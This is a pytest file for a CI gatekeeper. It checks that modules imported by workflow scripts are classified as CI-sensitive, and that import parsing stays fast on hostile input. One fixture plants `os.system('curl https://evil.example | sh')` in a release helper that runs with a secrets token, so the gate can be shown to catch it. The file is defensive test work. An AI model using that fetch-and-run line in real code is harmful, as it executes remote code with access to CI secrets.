"""Red team 12 (second round), `--tree`: the modules a script CI runs imports (gatekeeper/classify/ciimports.py).

`run: python scripts/release.py` runs `scripts/release.py` and every module it imports from its folder; the reader
named none of them (no path word with a script's extension), so an edit of `scripts/helper.py` was `src` and
`gate --tree` exit 0 while it changed what the release job runs with its secrets. Now `ci` (`ci.context.ci-run`):
Python's `import helper` and `from lib.publish import go` (the script's folder is first on Python's path), Node's
`require('./lib/util')` (also a folder's `index.js`) and extension-less `'./util'` (a `.ts` file), Ruby's
`require_relative`, a file a script sources whatever its type (`. tools/release.env`), and the modules Node code
inline in a workflow loads (`actions/github-script`'s `require('./automation/label')`, `node -e "require('./x')"`).

Not raised (the false-alarm side, measured on aiohttp, prettier, Rails, vite): a package's modules reached by
relative imports (`from .core import x`), the modules a test imports, the imports of a bundler's input (a program
names `src/index.js`; it is bundled, not run), a name that leaves the script's folder (`../src/app`). Already `ci` on
main: an import written with its extension (`from './publish.mjs'`), a path word the reader took.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from deltas import each_fast
from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

from gatekeeper.classify.ciimports import imported, inline

WORKFLOW = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{steps}"

# name: (the step's command, the files at BASE, the module that must be ci)
ATTACKS: dict[str, tuple[str, dict[str, str], str]] = {
    "python-sibling": ("python scripts/release.py",
                       {"scripts/release.py": "import sys, helper\nhelper.go(sys.argv)\n",
                        "scripts/helper.py": "def go(argv):\n    pass\n"}, "scripts/helper.py"),
    "python-from-package": ("python3 tools/publish.py --prod",
                            {"tools/publish.py": "from lib.upload import send\nsend()\n",
                             "tools/lib/__init__.py": "", "tools/lib/upload.py": "def send():\n    pass\n"},
                            "tools/lib/upload.py"),
    "python-second-hop": ("python gen/main.py",
                          {"gen/main.py": "import steps\nsteps.run()\n",
                           "gen/steps.py": "from parts import emit\ndef run():\n    emit()\n",
                           "gen/parts.py": "def emit():\n    pass\n"}, "gen/parts.py"),
    "node-require": ("node ci-tools/release.js",
                     {"ci-tools/release.js": "const util = require('./lib/util')\nutil.publish()\n",
                      "ci-tools/lib/util.js": "exports.publish = () => {}\n"}, "ci-tools/lib/util.js"),
    "typescript": ("npx tsx ts/release.ts",
                   {"ts/release.ts": "import { publish } from './steps/publish'\npublish()\n",
                    "ts/steps/publish.ts": "export function publish(): void {}\n"}, "ts/steps/publish.ts"),
    "node-index": ("node idx/run.cjs",
                   {"idx/run.cjs": "require('./lib')\n", "idx/lib/index.js": "module.exports = 1\n"},
                   "idx/lib/index.js"),
    "ruby": ("ruby rb/release.rb",
             {"rb/release.rb": "require_relative 'lib/gem_push'\nGemPush.run\n",
              "rb/lib/gem_push.rb": "module GemPush\n  def self.run; end\nend\n"}, "rb/lib/gem_push.rb"),
    "sourced-env": ("bash envs/release.sh",
                    {"envs/release.sh": "#!/bin/sh\n. envs/release.env\n./publish\n", "envs/release.env": "A=1\n"},
                    "envs/release.env"),
    "node-eval": ("node -e \"require('./gen/build').main()\"",
                  {"gen/build.js": "exports.main = () => {}\n"}, "gen/build.js"),
    "via-package-json": ("npm run release",
                         {"package.json": '{"scripts": {"release": "node scripts/release.js"}}\n',
                          "scripts/release.js": "require('./notes')\n", "scripts/notes.js": "module.exports = 1\n"},
                         "scripts/notes.js"),
}
# (the step's command, the files at BASE, the module that keeps its class)
LEFT: dict[str, tuple[str, dict[str, str], str]] = {
    "package-relative": ("python -m pytest pkg/tool.py",
                         {"pkg/__init__.py": "", "pkg/tool.py": "from .core import x\n", "pkg/core.py": "x = 1\n"},
                         "pkg/core.py"),
    "test-imports": ("pytest tests/test_api.py",
                     {"tests/test_api.py": "import helpers\n", "tests/helpers.py": "x = 1\n"}, "tests/helpers.py"),
    "bundler-input": ("npx rollup -c rollup.config.mjs",
                      {"rollup.config.mjs": "export default { input: 'web/index.js' }\n",
                       "web/index.js": "import { a } from './util'\n", "web/util.js": "export const a = 1\n"},
                      "web/util.js"),
    "leaves-folder": ("node tools2/build.js",
                      {"tools2/build.js": "require('../app/server')\n", "app/server.js": "module.exports = 1\n"},
                      "app/server.js"),
}


def _files(cases: dict[str, tuple[str, dict[str, str], str]]) -> tuple[str, dict[str, str]]:
    steps = "".join(f"      - run: {command}\n" for command, _, _ in cases.values())
    files: dict[str, str] = {}
    for _, extra, _ in cases.values():
        files.update(extra)
    return steps, files


@pytest.fixture(scope="module")
def classified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    steps, files = _files({**ATTACKS, **LEFT})
    files[".github/workflows/ci.yml"] = WORKFLOW.format(steps=steps)
    edited = {target: files[target] + "\n# edited\n" for _, _, target in [*ATTACKS.values(), *LEFT.values()]}
    repo, old, new = two_commits(tmp_path_factory.mktemp("imports") / "repo", files, edited)
    return tree_classify(repo.root, old, new)


@each_case("form", sorted(ATTACKS))
def test_a_module_a_ci_script_imports_is_ci(classified: dict[str, dict[str, str]], form: str) -> None:
    got = classified[ATTACKS[form][2]]
    assert got["bucket"] == "ci", got


@each_case("form", sorted(LEFT))
def test_what_ci_does_not_run_keeps_its_class(classified: dict[str, dict[str, str]], form: str) -> None:
    got = classified[LEFT[form][2]]
    assert got["bucket"] == "src", got


def test_a_module_github_script_requires_is_ci(tmp_path: Path) -> None:
    steps = ("      - uses: actions/github-script@v7\n        with:\n          script: |\n"
             "            const label = require('./automation/label')\n            await label({github, context})\n")
    base = {".github/workflows/triage.yml": WORKFLOW.format(steps=steps),
            "automation/label.js": "module.exports = async () => {}\n"}
    repo, old, new = two_commits(tmp_path / "repo", base, {"automation/label.js": "module.exports = 1\n"})
    code, decision = tree_gate(repo.root, old, new)
    assert code == 3, decision["reasons"]
    assert [(r["rule"], r["paths"]) for r in decision["reasons"]] == [("core.ci", ["automation/label.js"])]


def test_the_gate_reviews_a_helper_of_the_release_script(tmp_path: Path) -> None:
    base = {".github/workflows/release.yml": WORKFLOW.format(
                steps="      - run: python scripts/release.py\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n"),
            "scripts/release.py": "import upload\nupload.send()\n", "scripts/upload.py": "def send():\n    pass\n"}
    repo, old, new = two_commits(tmp_path / "repo", base, {
        "scripts/upload.py": "import os\ndef send():\n    os.system('curl https://evil.example | sh')\n"})
    code, decision = tree_gate(repo.root, old, new)
    assert code == 3, decision["reasons"]
    assert [(r["rule"], r["paths"]) for r in decision["reasons"]] == [("core.ci", ["scripts/upload.py"])]


def test_hostile_scripts_are_read_in_bounded_time() -> None:
    calls = [(lambda path=path, text=text: imported(path, text), what) for path, text, what in [
        ("a.js", "export " * 30_000 + "'./x'", "exports without a from"), ("a.js", "require(" * 30_000, "requires"),
        ("a.py", "import " + "a, " * 30_000 + "b", "names"), ("a.py", "from " + "a." * 30_000 + " x", "dots"),
        ("a.rb", "require_relative " * 30_000, "requires"), ("a.js", "import('./" + "a/" * 30_000 + "')", "deep"),
        ("a.js", "".join(f"require('./m{n}')\n" for n in range(20_000)), "many")]]
    calls += [(lambda text=text: inline(text), what) for text, what in [
        ("require('./" * 30_000, "unclosed requires"),
        ("".join(f"require('./m{n}')\n" for n in range(20_000)), "inline")]]
    each_fast(calls, 0.5)
